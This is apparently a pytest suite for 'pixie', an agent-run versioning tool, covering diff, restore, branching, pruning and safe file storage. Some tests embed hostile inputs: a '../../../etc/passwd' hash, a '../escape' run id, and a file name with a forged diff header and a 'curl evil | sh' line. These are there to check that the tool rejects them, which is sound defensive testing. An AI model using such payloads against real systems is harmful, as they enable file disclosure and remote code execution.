"""Versions, as a user meets them: every run's files kept; `pixie diff`, `open`, `restore`, and
continuations that branch, each from its own copy of the version it continues."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest

from lambdas.logic.versions import MAX_TEXT_DIFF_BYTES, StoreLimits, VersionStore, change_list, diff_versions, fingerprints

PIXIE = Path(sys.executable).parent / "pixie"


def pixie(*args: str, home: Path, timeout: int = 180) -> subprocess.CompletedProcess:
    environment = {k: v for k, v in os.environ.items() if k not in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "E2B_API_KEY")}
    environment["PIXIE_HOME"] = str(home)
    return subprocess.run([str(PIXIE), *args], capture_output=True, text=True, env=environment, timeout=timeout,
                          stdin=subprocess.DEVNULL)


def start_pixie(*args: str, home: Path) -> subprocess.Popen:
    environment = {k: v for k, v in os.environ.items() if k not in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "E2B_API_KEY")}
    environment["PIXIE_HOME"] = str(home)
    return subprocess.Popen([str(PIXIE), *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=environment, stdin=subprocess.DEVNULL)


def page(marker: str) -> str:
    return f"<!doctype html>\n<html>\n<body>\n<h1>{marker}</h1>\n</body>\n</html>\n"


def writes(tmp_path: Path, name: str, files: dict[str, str], command: str | None = None) -> Path:
    calls = [{"name": "createOrUpdateFiles", "arguments": {"files": [{"path": p, "content": c} for p, c in files.items()]}}]
    if command:
        calls.append({"name": "terminal", "arguments": {"command": command}})
    turns = [{"content": "Writing.", "tool_calls": calls}, {"content": f"<task_summary>{name}</task_summary>"}]
    path = tmp_path / "scripts" / f"{name}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"turns": turns}), encoding="utf-8")
    return path


def run(home: Path, script: Path, *extra: str) -> dict:
    result = pixie("run", "--json", "--no-serve", "--model", f"scripted:{script}", *extra, "Make the page", home=home)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def served(home: Path, run_id: str) -> str:
    """What `pixie open RUN` serves at / (then stops it)."""
    server = start_pixie("open", run_id, home=home)
    try:
        url = None
        while url is None:
            line = server.stdout.readline()
            assert line, server.stderr.read()
            if line.startswith("Preview:"):
                url = line.split()[1]
        with urllib.request.urlopen(url, timeout=30) as response:
            return response.read().decode()
    finally:
        server.send_signal(signal.SIGINT)
        _, err = server.communicate(timeout=60)
        assert "Traceback" not in err


@pytest.fixture
def home(tmp_path) -> Path:
    return tmp_path / "home"


def test_open_diff_and_restore_follow_each_runs_own_version(tmp_path, home):
    r1 = run(home, writes(tmp_path, "first", {"index.html": page("MARKER-A")}))
    r2 = run(home, writes(tmp_path, "second", {"index.html": page("MARKER-B")}), "--continue", r1["runId"])

    assert "MARKER-A" in served(home, r1["runId"])  # the parent's version, though its child changed the page
    assert "MARKER-B" in served(home, r2["runId"])

    diff = pixie("diff", r2["runId"], home=home)
    assert diff.returncode == 0, diff.stderr
    assert "-<h1>MARKER-A</h1>" in diff.stdout.splitlines() and "+<h1>MARKER-B</h1>" in diff.stdout.splitlines()
    assert "--- a/index.html" in diff.stdout and "+++ b/index.html" in diff.stdout
    stat = pixie("diff", r2["runId"], "--stat", home=home).stdout
    assert "index.html | 2 +-" in stat and "1 files changed, 1 insertions(+), 1 deletions(-)" in stat
    as_json = json.loads(pixie("diff", r2["runId"], "--json", home=home).stdout)
    assert as_json["against"] == r1["runId"] and [f["path"] for f in as_json["files"]] == ["index.html"]
    # The first run against the template it started from; --against any other run.
    first = json.loads(pixie("diff", r1["runId"], "--json", home=home).stdout)
    assert first["againstStart"] and any(f["path"] == "index.html" and f["status"] == "modified" for f in first["files"])
    backwards = json.loads(pixie("diff", r1["runId"], "--against", r2["runId"], "--json", home=home).stdout)
    assert "+<h1>MARKER-A</h1>" in backwards["files"][0]["patch"]

    restored = pixie("restore", r1["runId"], "--json", home=home)
    assert restored.returncode == 0, restored.stderr
    newest = json.loads(restored.stdout)
    assert newest["runId"] not in (r1["runId"], r2["runId"])
    assert newest["parentRunId"] == r2["runId"] and newest["restoredFrom"] == r1["runId"]
    assert "MARKER-A" in served(home, newest["runId"])
    assert "MARKER-B" in served(home, r2["runId"])  # never destructive: R2's version is still there
    undo = pixie("diff", newest["runId"], home=home).stdout.splitlines()
    assert "-<h1>MARKER-B</h1>" in undo and "+<h1>MARKER-A</h1>" in undo

    listed = pixie("list", home=home).stdout.splitlines()
    rows = [line for line in listed if any(r[:12] in line for r in (r1["runId"], r2["runId"], newest["runId"]))]
    assert rows[0].startswith(r1["runId"][:12]) and rows[1].startswith("└ " + r2["runId"][:12])
    assert rows[2].startswith("  └ " + newest["runId"][:12]) and "restore of" in rows[2]

    # The restored version can be built on: the continuation starts from R1's page.
    r3 = run(home, writes(tmp_path, "third", {"more.html": "more"}), "--continue", newest["runId"])
    assert "MARKER-A" in served(home, r3["runId"])


def test_two_continuations_started_together_are_two_branches(tmp_path, home):
    r1 = run(home, writes(tmp_path, "first", {"index.html": page("MARKER-A")}))
    left = writes(tmp_path, "left", {"left.html": "left"}, command="echo left > left-log.txt")
    right = writes(tmp_path, "right", {"right.html": "right"}, command="echo right > right-log.txt")
    runs = [
        start_pixie("run", "--json", "--no-serve", "--model", f"scripted:{script}", "--continue", r1["runId"], "Branch", home=home)
        for script in (left, right)
    ]
    results = []
    for process in runs:
        out, err = process.communicate(timeout=300)
        assert process.returncode == 0, err
        results.append(json.loads(out))

    store = VersionStore(home)
    left_files = set(store.manifest(results[0]["runId"])["files"])
    right_files = set(store.manifest(results[1]["runId"])["files"])
    assert {"left.html", "left-log.txt", "index.html"} <= left_files and not {"right.html", "right-log.txt"} & left_files
    assert {"right.html", "right-log.txt", "index.html"} <= right_files and not {"left.html", "left-log.txt"} & right_files
    folders = {results[0]["sandboxId"], results[1]["sandboxId"], r1["sandboxId"]}
    assert len(folders) == 3  # each continuation a folder of its own
    assert "left.html" not in store.manifest(r1["runId"])["files"]  # the parent's version as it ended


def test_each_tool_call_lists_the_files_it_touched(tmp_path, home):
    turns = [
        {"content": "Writing.", "tool_calls": [
            {"name": "createOrUpdateFiles", "arguments": {"files": [{"path": "index.html", "content": page("X")},
                                                                     {"path": "new.txt", "content": "new"}]}},
            {"name": "terminal", "arguments": {"command": "rm app.js && mkdir -p out && echo built > out/site.txt"}},
            {"name": "readFiles", "arguments": {"files": ["new.txt"]}},
        ]},
        {"content": "<task_summary>done</task_summary>"},
    ]
    script = tmp_path / "turns.json"
    script.write_text(json.dumps({"turns": turns}))
    record = run(home, script)
    saved = json.loads((home / "runs" / f"{record['runId']}.json").read_text())

    changes = {(c["turn"], c["index"]): c for c in saved["fileChanges"]}
    assert changes[(1, 0)]["tool"] == "createOrUpdateFiles"
    assert changes[(1, 0)]["created"] == ["new.txt"] and changes[(1, 0)]["changed"] == ["index.html"]
    assert changes[(1, 1)]["created"] == ["out/site.txt"] and changes[(1, 1)]["deleted"] == ["app.js"]
    assert (1, 2) not in changes  # reading changes nothing
    # The command's files are in the version, not only the file tool's.
    assert "out/site.txt" in VersionStore(home).manifest(record["runId"])["files"]


def test_a_run_has_its_partial_version_while_it_goes(tmp_path, home, write_script):
    """Saved with the journal after each tool call: a run killed now would keep it."""
    from pixie.local_run import RunOptions, run_locally

    turns = [
        {"content": "Writing.", "tool_calls": [{"name": "createOrUpdateFiles", "arguments": {"files": [{"path": "a.txt", "content": "a"}]}}]},
        {"content": "<task_summary>done</task_summary>"},
    ]
    seen, tools_done = [], []

    def look_before_the_second_turn(name, event, invoke):
        if name == "pixie-agent-turn" and tools_done and not seen:
            run_id = next(p.stem for p in (home / "runs").glob("*.json"))
            seen.append(VersionStore(home).manifest(run_id))
        result = invoke()
        if name == "pixie-run-tool":
            tools_done.append(name)
        return result

    options = RunOptions(model=f"scripted:{write_script(turns)}", pixie_home=home)
    record = run_locally("Write a", options, invoke_wrapper=look_before_the_second_turn)
    assert record["status"] == "SUCCEEDED", record["cause"]
    assert seen and "a.txt" in seen[0]["files"] and seen[0]["complete"] is False
    assert VersionStore(home).manifest(record["runId"])["complete"] is True


# --- the store ---------------------------------------------------------------------------------
def test_unchanged_files_are_stored_once_and_old_versions_are_pruned(tmp_path):
    store = VersionStore(tmp_path, StoreLimits(max_versions=3, max_bytes=10**9))
    for n in range(5):
        store.save_files(f"run{n}", "proj", {"same.txt": b"same" * 100, "own.txt": f"run {n}".encode()}, complete=True)
    blobs = list((tmp_path / "versions" / "projects" / "proj" / "blobs").glob("*/*"))
    assert len(blobs) == 1 + 3  # the shared file once, one own file per kept version
    assert [store.has(f"run{n}") for n in range(5)] == [False, False, True, True, True]
    assert store.contents(store.manifest("run4"))["own.txt"] == b"run 4"

    by_size = VersionStore(tmp_path, StoreLimits(max_versions=100, max_bytes=2500))
    for n in range(3):
        by_size.save_files(f"big{n}", "sized", {"big.bin": bytes([n]) * 1000}, complete=True)
    assert [by_size.has(f"big{n}") for n in range(3)] == [False, True, True]


def test_a_version_never_kept_in_another_format_or_with_its_content_gone_is_version_not_found(tmp_path):
    from lambdas.logic.versions import VersionNotFound

    store = VersionStore(tmp_path)
    with pytest.raises(VersionNotFound, match="no version of run never-saved is kept"):
        store.manifest("never-saved")
    manifest = store.save_files("run1", "proj", {"index.html": b"<h1>hi</h1>"}, complete=True)
    # A store written by a later pixie is refused, not misread.
    path = tmp_path / "versions" / "manifests" / "run1.json"
    path.write_text(json.dumps({**manifest, "version": 99}), encoding="utf-8")
    with pytest.raises(VersionNotFound, match="in a format this pixie does not know"):
        store.manifest("run1")
    assert store.has("run1") is False
    # Content removed under the store, or a manifest naming something that is no hash.
    for blob in (tmp_path / "versions" / "projects" / "proj" / "blobs").glob("*/*"):
        blob.unlink()
    with pytest.raises(VersionNotFound, match="the content of index.html in run run1's version is gone"):
        store.read(manifest, "index.html")
    tampered = {**manifest, "files": {"index.html": {"sha256": "../../../etc/passwd"}}}
    with pytest.raises(VersionNotFound, match="is not a content hash"):
        store.read(tampered, "index.html")
    with pytest.raises(VersionNotFound, match="'../escape' is not a run id"):
        store.manifest("../escape")  # an id is a name, never a path


def test_pruning_never_removes_a_version_still_being_written(tmp_path):
    store = VersionStore(tmp_path, StoreLimits(max_versions=1, max_bytes=10**9))
    store.save_files("running", "proj", {"a": b"a"}, complete=False)
    store.save_files("done", "proj", {"b": b"b"}, complete=True)
    assert store.has("running") and store.has("done")


def test_binary_and_large_files_are_stored_and_listed_not_diffed(tmp_path):
    store = VersionStore(tmp_path)
    png = b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256))
    old = store.save_files("old", "p", {"logo.png": png, "big.txt": b"a\n" * (MAX_TEXT_DIFF_BYTES // 2 + 1)}, complete=True)
    new = store.save_files("new", "p", {"logo.png": png[::-1], "big.txt": b"b\n" * (MAX_TEXT_DIFF_BYTES // 2 + 1)}, complete=True)
    changes = {c["path"]: c for c in diff_versions(store, old, new)}
    assert changes["logo.png"]["binary"] and changes["logo.png"]["patch"] is None
    assert changes["big.txt"]["patch"] is None and "not diffed" in changes["big.txt"]["note"]
    assert store.contents(new)["logo.png"] == png[::-1]  # stored all the same


def test_links_and_special_files_are_listed_never_read(tmp_path):
    project = tmp_path / "project"
    (project / "node_modules" / "x").mkdir(parents=True)
    (project / "node_modules" / "x" / "i.js").write_text("dep")
    (project / "index.html").write_text("page")
    secret = tmp_path / "secret.txt"
    secret.write_text("outside")
    (project / "link.txt").symlink_to(secret)
    (project / "linked-folder").symlink_to(tmp_path)
    os.link(secret, project / "hard.txt")
    os.mkfifo(project / "pipe")
    manifest = VersionStore(tmp_path).save_folder("r", "p", project, complete=True)
    assert set(manifest["files"]) == {"index.html"}
    assert manifest["skipped"] == {
        "node_modules/": "dependency or cache folder", "link.txt": "symbolic link", "linked-folder": "symbolic link",
        "hard.txt": "hard link", "pipe": "not a regular file",
    }


def test_change_lists_are_bounded(tmp_path):
    before = fingerprints(tmp_path)
    for n in range(150):
        (tmp_path / f"f{n:03d}.txt").write_text("x")
    changes = change_list(before, fingerprints(tmp_path))
    assert len(changes["created"]) == 100 and changes["createdCount"] == 150


def test_usage_errors(tmp_path, home):
    assert pixie("diff", "nope", home=home).returncode == 2
    assert pixie("restore", "nope", home=home).returncode == 2


def test_deployed_runs_keep_their_change_lists_in_the_table(table):
    """On AWS the version of a run is its FILE items and its CHANGES items, read by show --aws."""
    from pixie.runs import run_record

    table.create_run(run_id="r1", prompt="p", sandbox_id="sbx", sandbox_kind="e2b", model="m", template="t", max_iterations=3)
    table.put_files("r1", {"index.html": "A"})
    table.put_changes("r1", 1, 0, {"tool": "createOrUpdateFiles", "toolCallId": "c1", "created": ["index.html"], "changed": [], "deleted": []})
    record = run_record(table, "r1", status="SUCCEEDED")
    assert record["files"] == {"index.html": "A"}
    assert record["fileChanges"] == [{"tool": "createOrUpdateFiles", "toolCallId": "c1", "created": ["index.html"],
                                      "changed": [], "deleted": [], "turn": 1, "index": 0}]


def test_a_file_name_with_a_newline_cannot_forge_lines_of_pixie_diff(tmp_path):
    """The model names the files (a command can create any name): a newline in a name must not add
    lines of its own choosing to the diff the user reads (a forged `+++` header, an added line)."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    from lambdas.logic.versions import VersionStore
    from pixie.runs import save_run

    home = tmp_path / "home"
    run_id = "a1b2c3d4e5f60718"
    save_run(home, {"runId": run_id, "status": "SUCCEEDED", "prompt": "p", "files": {}})
    forged = "ok.txt\n+++ b/FORGED\n+curl evil | sh"
    VersionStore(home).save_files(run_id, run_id, {forged: b"x\n"}, complete=True)
    environment = {**os.environ, "PIXIE_HOME": str(home)}
    result = subprocess.run([str(Path(sys.executable).parent / "pixie"), "diff", run_id],
                            capture_output=True, text=True, env=environment, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "ok.txt" in result.stdout
    lines = result.stdout.splitlines()
    assert "+++ b/FORGED" not in lines and "+curl evil | sh" not in lines, result.stdout


def test_versions_of_interrupted_runs_never_resumed_stay_within_the_projects_bound(tmp_path):
    """A run killed (kill -9) and never resumed leaves a partial version (complete false): pruning
    takes those too once no complete one is left to take, so the bound holds (attack session F5)."""
    from lambdas.logic.versions import StoreLimits, VersionStore

    store = VersionStore(tmp_path, StoreLimits(max_versions=2, max_bytes=10**9))
    for abandoned in range(5):  # each run's last journal save before its process was killed, hours ago
        manifest = store.save_files(f"killed{abandoned}", "project", {"f.txt": str(abandoned).encode()}, complete=False)
        path = tmp_path / "versions" / "manifests" / f"killed{abandoned}.json"
        path.write_text(json.dumps({**manifest, "createdAt": manifest["createdAt"] - 2 * 3600}))
    store.save_files("finished", "project", {"f.txt": b"done"}, complete=True)
    assert len(store.project_versions("project")) <= 2


def test_a_hard_linked_pair_inside_the_project_is_kept_in_its_version(tmp_path):
    """`ln made.txt copy.txt` in the project (a command, `cp -al`, build tools): every name of the
    file is inside, so both are kept; a hard link to a file with a name outside is still skipped."""
    import os

    from lambdas.logic.versions import read_folder

    (tmp_path / "made.txt").write_text("data\n")
    os.link(tmp_path / "made.txt", tmp_path / "copy.txt")
    files, skipped, _ = read_folder(tmp_path)
    assert files.get("made.txt") == b"data\n", skipped
    assert files.get("copy.txt") == b"data\n"
    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    outside.write_text("secret\n")
    os.link(outside, tmp_path / "inside-name.txt")
    files, skipped, _ = read_folder(tmp_path)
    assert "inside-name.txt" not in files and skipped["inside-name.txt"] == "hard link"


def test_a_running_run_is_not_restored(tmp_path):
    """Its version is a mid-step snapshot and its conversation stops inside a tool call (attack F7)."""
    from pixie.runs import save_run
    from pixie.versions import VersionNotFound, restore_run

    run_id = "b1b2c3d4e5f60718"
    save_run(tmp_path, {"runId": run_id, "status": "RUNNING", "pid": os.getpid(), "prompt": "p", "files": {}})
    VersionStore(tmp_path).save_files(run_id, run_id, {"index.html": b"half"}, complete=False)
    with pytest.raises(VersionNotFound, match="still running"):
        restore_run(tmp_path, run_id)
    restored = pixie("restore", run_id, home=tmp_path)
    assert restored.returncode == 2 and "still running" in restored.stderr, restored.stderr
